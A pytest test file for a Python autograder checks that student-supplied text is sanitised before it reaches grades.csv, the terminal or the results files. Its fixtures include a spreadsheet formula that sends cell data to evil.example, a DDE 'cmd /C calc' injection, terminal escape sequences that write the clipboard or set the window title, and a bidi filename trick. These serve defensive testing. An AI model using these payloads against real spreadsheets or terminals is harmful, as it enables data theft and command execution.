"""What a graded submission becomes: the Outcome, its gradebook row, grades.csv and the closing table, with
student text made safe, and row names that never collide (fast, no grading)."""
from __future__ import annotations

import contextlib
import csv
import importlib.machinery
import itertools
import json
import os
import re
import zipfile

import pytest

from autograder.samples import write_submission
from grader import sanitize
from grader.contain.limits import Limits
from grader.run import batch, gradebook, submissions, unpacking
from grader.run.outcome import Outcome
from grader.run.pool import Job
from grader.run.request import Request

ATTACKS = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "clipboard": "copy\x1b]52;c;ZXZpbA==\x07done",
    "line clear": "fine\x1b[2K\x1b[1Amessage",
    "title": "\x1b]0;owned\x1b\\ok",
    "c1 csi": "a\x9b31mred",
    "bidi": "safe\u202egnp.exe",
    "nul and bell": "a\x00b\x07c",
}


def test_an_outcome_survives_json_and_refuses_anything_else():
    outcome = Outcome("graded", "m", 42.5, 100.0, {"1": 10.0}, {"1": 10.0}, {"score": 42.5}, False, ["f"], 1.5)
    assert Outcome.from_json(outcome.to_json()) == outcome
    for bad in ("[]", '{"status": "graded", "bogus": 1}', '{"status": "maybe"}', "not json"):
        with pytest.raises(ValueError):
            Outcome.from_json(bad)


def test_a_worker_that_died_mid_write_is_an_engine_failure():
    job = Job(1, 0, None, bytearray(Outcome("graded", score=100.0).to_json().encode()[:-5]))
    outcome = job.outcome()
    assert (outcome.status, outcome.engine_failure, outcome.score) == ("error", True, 0.0)


@pytest.mark.parametrize("name", list(ATTACKS))
def test_student_text_loses_escape_sequences_and_control_characters(name):
    clean = sanitize.printable(ATTACKS[name])
    assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F or 0x202A <= ord(c) <= 0x202E for c in clean), repr(clean)


def test_newlines_stay_only_where_asked():
    assert sanitize.printable("a\nb\tc") == "a b c"
    assert sanitize.printable("a\nb\tc\x1b[31m", newlines=True) == "a\nb\tc"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_never_starts_like_a_formula(start):
    cell = sanitize.csv_cell(start + "1+1")
    assert cell.startswith("'") or not cell.startswith(sanitize.FORMULA_STARTS)
    assert not cell.lstrip("'").startswith(("\t", "\r"))


def _submission(name="=cmd|' /C calc'!A0", slug="x", source="/class/x"):
    """A submission read from the folder `source` (its identity is a digest of it, as discovery gives it)."""
    return submissions.Submission(name, slug, submissions.identity(source), source)


def test_grades_csv_holds_student_text_as_inert_text(tmp_path):
    outcome = Outcome("graded", ATTACKS["formula"] + ATTACKS["line clear"], flags=[ATTACKS["clipboard"]])
    row = gradebook.row_from_outcome(_submission(), outcome, "isolated: pid")
    gradebook.write_csv(tmp_path, [row])
    with open(tmp_path / "grades.csv", newline="") as handle:
        written = next(csv.DictReader(handle))
    assert written["submission"].startswith("'=") and written["message"].startswith("'=")
    assert "\x1b" not in (tmp_path / "grades.csv").read_text()
    assert written["flags"] == "copydone"
    table = gradebook.table([row])
    assert "\x1b" not in table and "flags: 1 submission(s) flagged" in table


def test_rows_keep_source_flags_and_attempts_and_a_resume_finds_them_by_source(tmp_path):
    (tmp_path / "results").mkdir()
    graded = gradebook.row_from_outcome(_submission("a", "a", "/class/a"), Outcome("graded", score=100.0), "n")
    failed = gradebook.row_from_outcome(_submission("b", "b", "/class/b"), Outcome.failed("grader error"), "n")
    failed_twice = gradebook.row_from_outcome(_submission("c", "c", "/class/c"), Outcome.failed("x"), "n", 2)
    for row in (graded, failed, failed_twice):
        gradebook.write_result(tmp_path, row, gradebook.results_document(Outcome("error"), row))
    done, taken = gradebook.load_done(tmp_path)
    identity = submissions.identity
    assert set(done) == {identity("/class/a"), identity("/class/c")}      # an engine failure is graded again, once
    assert taken == {"a": identity("/class/a"), "b": identity("/class/b"), "c": identity("/class/c")}
    assert gradebook.attempts_before(tmp_path, "b") == 1 and gradebook.attempts_before(tmp_path, "a") == 0


def named(*pairs):
    """Submissions as discovery finds them: (name, source) each."""
    return [submissions._Found(name, source, source) for name, source in pairs]


def test_names_that_look_alike_never_share_a_results_file():
    found = submissions._with_unique_slugs(named(("slug a", "/c/slug a"), ("slug_a", "/c/slug_a"),
                                                  ("slug_a-2", "/c/slug_a-2"), ("slug a!", "/d/slug a!")), {})
    slugs = [s.slug for s in found]
    assert len(set(slugs)) == 4, slugs
    # Defence off: the rule before (a counter per safe name, "-N" appended) gave two of them one file.
    counts, old = {}, []
    for name in ("slug a", "slug_a", "slug_a-2"):
        slug = re.sub(r"[^A-Za-z0-9._-]+", "_", name).strip("._") or "submission"
        counts[slug] = counts.get(slug, 0) + 1
        old.append(f"{slug}-{counts[slug]}" if counts[slug] > 1 else slug)
    assert old == ["slug_a", "slug_a-2", "slug_a-2"]


def test_a_resumed_run_keeps_each_source_on_its_own_file_whatever_was_added():
    first = submissions._with_unique_slugs(named(("slug_a", "/c/slug_a")), {})
    taken = {s.slug: s.source for s in first}
    second = submissions._with_unique_slugs(named(("slug a", "/c/slug a"), ("slug_a", "/c/slug_a")), taken)
    by_source = {s.source: s.slug for s in second}
    assert by_source["/c/slug_a"] == first[0].slug
    assert by_source["/c/slug a"] != first[0].slug


def _zip(path, entries):
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return path


@pytest.mark.parametrize("entries, why", [
    ([("student/__init__.py", ""), ("student/x", "file"), ("student/x/y.py", "")], "both a file and a folder"),
    ([("student/__init__.py", ""), ("student/x/y.py", ""), ("student/x", "file")], "both a file and a folder"),
    ([("student/__init__.py", ""), ("student/a.py", "1"), ("student/a.py", "2")], "twice"),
])
def test_zip_oddities_are_errors_with_a_message(tmp_path, entries, why):
    private = tmp_path / "private"
    private.mkdir()
    with pytest.warns(UserWarning) if any(n == m for (n, _), (m, _) in itertools.pairwise(entries)) else _nothing():
        archive = _zip(tmp_path / "odd.zip", entries)
    with pytest.raises(unpacking.SubmissionError, match=why):
        unpacking.unpack(str(archive), str(private))


class _nothing:
    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False


def test_bytecode_is_dropped_from_zips_and_code_only_in_bytecode_is_flagged(tmp_path):
    folder = write_submission(tmp_path / "src", solution=False)
    entries = [(f"student/{p.name}", p.read_bytes()) for p in (folder / "student").iterdir() if p.is_file()]
    entries += [("student/_solution.pyc", b"\x00" * 32), ("student/__pycache__/heads.cpython-311.pyc", b"\x00")]
    private = tmp_path / "private"
    private.mkdir()
    unpacked = unpacking.unpack(str(_zip(tmp_path / "s.zip", entries)), str(private))
    assert not list(private.rglob("*.pyc"))
    assert len(unpacked.flags) == 1 and "student/_solution.pyc" in unpacked.flags[0]


def test_bytecode_beside_its_source_is_dropped_without_a_flag(tmp_path):
    folder = write_submission(tmp_path / "src", solution=False)
    (folder / "student" / "heads.pyc").write_bytes(b"\x00")
    private = tmp_path / "private"
    private.mkdir()
    assert unpacking.unpack(str(folder), str(private)).flags == ()
    assert not list(private.rglob("*.pyc"))


def test_only_source_reaches_the_box_and_the_student_reads_what_was_left_out(tmp_path):
    """Archives (zipimport reads them), extension modules (imported before the .py beside them), path files and
    data never reach a box: the source reader reads only .py files, so nothing else may run. A module shipped only
    compiled is flagged; an archive is flagged only by a source that loads it (source_rules.loaded_flags)."""
    folder = write_submission(tmp_path / "src")
    package = folder / "student"
    extension = "_kernels" + importlib.machinery.EXTENSION_SUFFIXES[0]
    others = {"_kernels.zip": b"PK\x05\x06" + bytes(18), extension: b"\x7fELF", "heads.cpython-311-x86_64-linux-gnu.so":
              b"\x7fELF", "evil.pth": b"import os\n", "tests/weights.bin": b"\x00", "notes.md": b"mine",
              ".DS_Store": b"\x00"}
    for name, data in others.items():
        (package / name).write_bytes(data)
    private = tmp_path / "private"
    private.mkdir()
    unpacked = unpacking.unpack(str(folder), str(private))
    kept = {p.relative_to(private).as_posix() for p in private.rglob("*") if p.is_file()}
    assert kept == {p.relative_to(folder).as_posix() for p in package.rglob("*.py")}
    shown = sorted(f"student/{name}" for name in others if name != ".DS_Store")
    assert unpacked.note == f"left out {', '.join(shown[:5])}, and 1 more: {unpacking.NOT_SOURCE}"
    (flag,) = unpacked.flags   # heads.py stands beside its extension: only _kernels is code shipped only compiled
    assert f"student/{extension}" in flag and "heads.cpython" not in flag and "_kernels.zip" not in flag


def test_a_source_file_the_reader_cannot_read_is_left_out_and_a_syntax_error_is_not(tmp_path):
    folder = write_submission(tmp_path / "src")
    package = folder / "student"
    (package / "deep.py").write_text("_pad = lambda: x" + ".a" * 20000 + "\n")
    (package / "coded.py").write_text("# -*- coding: box-made-codec -*-\nx = 1\n")
    (package / "typo.py").write_text("def broken(:\n")
    with zipfile.ZipFile(package / "kernels.py", "w") as archive:   # zipimport reads a zip whatever its name
        archive.writestr("_unwatched.py", "import torch\n")
    private = tmp_path / "private"
    private.mkdir()
    unpacked = unpacking.unpack(str(folder), str(private))
    assert not (private / "student" / "deep.py").exists() and not (private / "student" / "coded.py").exists()
    assert (private / "student" / "typo.py").exists()   # its import fails in the box as it would anywhere
    assert "left out student/deep.py: nested deeper" in unpacked.note
    assert "left out student/coded.py: written in an encoding Python does not know" in unpacked.note
    assert "left out student/kernels.py: not Python source (it holds null bytes)" in unpacked.note


def test_results_document_of_an_error_row_names_the_reason_and_the_flags():
    outcome = Outcome.rejected("no student/ package found", ["code shipped only as bytecode: student/x.pyc"])
    row = gradebook.row_from_outcome(_submission(), outcome, "n")
    document = gradebook.results_document(outcome, row)
    assert document["score"] == 0.0 and "no student/ package" in document["output"]
    assert "bytecode" in document["output"] and json.dumps(document)


def test_what_hidden_calls_met_is_told_at_once_by_its_kind_and_in_full_with_the_results():
    """A submission that ends its process in every call whose inputs hold a size of 5 chose which graded names
    crashed, and how often, from the hidden inputs: the row's message (what Gradescope shows at once, and what the
    old engine's message was: the details) names neither; the feedback's lead, shown with the results, does."""
    from grader.gateway.client import LATE_IMPORT, SessionLog
    from grader.run import trusted

    names = ["MultiHeadAttention", "apply_mask", "causal_mask"]
    report = object()   # the suite ran (judge reads nothing else of it)
    for kind, log in (("crashes", SessionLog(crashes=names * 27 + names[:2])),
                      ("timeouts", SessionLog(timeouts=names[:2])), ("refusals", SessionLog(refusals=names))):
        status, message, details = trusted.judge(log, Limits(), 0, report)
        assert message == trusted.CALLS_AT_ONCE[kind] and status == ("timeout" if kind == "timeouts" else "graded")
        assert all(name in details for name in names[:2]) and any(c.isdigit() for c in details)
        assert not any(name in message for name in names) and not any(c.isdigit() for c in message)
    late = f"ValueError: it could not be imported (in a new sandbox: {LATE_IMPORT})"
    log = SessionLog(crashes=["causal_mask"], unloadable={"apply_mask": late, "split_heads": "SyntaxError: line 3"})
    _status, message, details = trusted.judge(log, Limits(), 0, report)
    assert "split_heads" in message and "line 3" in message, "the first sandbox's import is told at once"
    assert "apply_mask" not in message and trusted.LATE_UNLOADABLE in message and "apply_mask" in details


def test_a_failure_names_the_students_files_not_the_sandboxs_copy_of_them(tmp_path):
    """Python's ImportError names the file it looked in: the box's copy (/tmp/submission/student/heads.py) is
    student/heads.py to the student, who has no such folder."""
    write_submission(tmp_path / "class" / "broken", solution=True)
    scaling = tmp_path / "class" / "broken" / "student" / "scaling.py"
    scaling.write_text("from .heads import no_such_name\n" + scaling.read_text())
    with open(os.devnull, "w") as quiet, contextlib.redirect_stdout(quiet):
        batch.grade_all(Request([str(tmp_path / "class")], tmp_path / "out"))
    said = json.loads((tmp_path / "out" / "results" / "broken.json").read_text())["output"]
    assert "from 'student.heads' (student/heads.py)" in said, said[:500]
